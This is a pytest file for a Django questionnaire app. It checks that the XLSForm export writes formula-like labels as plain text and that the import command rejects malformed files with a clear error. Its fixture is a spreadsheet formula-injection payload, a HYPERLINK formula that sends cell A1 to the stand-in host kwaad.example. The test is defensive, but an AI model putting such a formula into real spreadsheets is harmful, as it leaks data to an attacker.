"""The XLSForm export writes text as text: a label that looks like a formula stays a label."""

from __future__ import annotations

import copy
from types import SimpleNamespace

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from buurtonderzoek.questionnaires.models import QuestionnaireVersion
from buurtonderzoek.questionnaires.xlsform import export_xlsform

FORMULA = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'


@pytest.mark.django_db
def test_a_label_that_looks_like_a_formula_is_exported_as_text(tmp_path) -> None:
    schema = copy.deepcopy(QuestionnaireVersion.objects.latest_published("buurtonderzoek").schema)
    schema["sections"][0]["questions"][0]["label"] = FORMULA
    version = SimpleNamespace(schema=schema, questionnaire=SimpleNamespace(slug="test", title="=1+1"), number=1)
    export_xlsform(version, tmp_path / "form.xlsx")

    workbook = load_workbook(tmp_path / "form.xlsx")
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert FORMULA in texts
    assert "=1+1" in texts


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("oud.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
        ("kapot.xlsx", b"PK\x03\x04 dit is geen werkboek"),
        ("tekst.xlsx", b"type,name,label\ntext,naam,Naam\n"),
    ],
)
def test_the_import_command_explains_an_unreadable_file_without_a_traceback(tmp_path, name, content) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(CommandError, match=r"XLSForm"):  # a Dutch explanation, not a traceback
        call_command("import_xlsform", str(path))
